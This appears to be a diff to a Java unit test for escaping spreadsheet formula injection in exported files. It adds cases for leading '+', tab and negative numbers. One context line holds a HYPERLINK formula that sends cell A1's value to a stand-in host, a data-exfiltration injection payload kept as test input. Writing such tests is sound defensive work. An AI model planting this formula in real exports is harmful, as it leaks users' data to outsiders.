@@ -19,7 +19,10 @@ class BulkFileWriterTest {
                 Arguments.of("=HYPERLINK(\"http://x/?\"&A1,\"详情\")", "'=HYPERLINK(\"http://x/?\"&A1,\"详情\")"),
                 Arguments.of("+86 139", "'+86 139"),
                 Arguments.of("-1+1", "'-1+1"),
+                Arguments.of("+1", "'+1"),
                 Arguments.of("@SUM(A1)", "'@SUM(A1)"),
+                Arguments.of("\tx", "'\tx"),
+                Arguments.of("-5", "-5"),
                 Arguments.of("警告并处罚款5000元", "警告并处罚款5000元"),
                 Arguments.of("0.5", "0.5"));
     }
